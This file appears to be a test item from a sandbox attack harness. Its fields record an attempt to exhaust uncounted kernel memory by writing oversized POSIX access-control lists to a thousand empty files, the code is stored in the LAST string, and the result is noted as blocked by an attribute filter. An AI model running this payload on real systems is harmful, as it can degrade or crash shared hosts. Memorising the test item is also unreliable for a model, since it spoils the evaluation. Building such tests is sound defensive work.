"""Give thousands of empty files access lists of 64 KB, which their file system does not count.

Must not: hold memory in the kernel that is not counted.
"""

from attack_kit import every

ANSWERS = every("return None")
LAST = [
    """import os, struct
entry = lambda tag, who: struct.pack('<HHI', tag, 7, who)
nobody = 0xFFFFFFFF
long = struct.pack('<I', 2) + entry(1, nobody) + entry(2, 1000) * 8180
long += entry(4, nobody) + entry(16, nobody) + entry(32, nobody)
for n in range(1000):
    open(f'f{n}', 'w').close()
    os.setxattr(f'f{n}', 'system.posix_acl_access', long); print('BRE' + 'ACH: a list')""",
]
REASON = "raised OSError"
STOPPED_BY = "the filter: no attributes of files"
PROCESS_STOPS = False
PROCESS_WHY = "memory and descriptors are the account's: not run"
